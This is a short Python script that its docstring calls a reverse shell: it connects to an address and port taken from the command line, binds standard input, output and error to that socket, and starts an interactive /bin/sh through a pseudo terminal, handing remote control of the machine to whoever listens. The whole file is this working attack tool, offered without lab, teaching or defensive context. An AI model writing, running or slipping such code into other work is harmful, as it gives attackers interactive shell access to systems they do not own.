"""A reverse shell in Python, on a pseudo terminal: shell.py ADDRESS PORT."""
import os
import pty
import socket
import sys

peer = socket.create_connection((sys.argv[1], int(sys.argv[2])), 10)
for descriptor in (0, 1, 2):
    os.dup2(peer.fileno(), descriptor)
pty.spawn(['/bin/sh', '-i'])
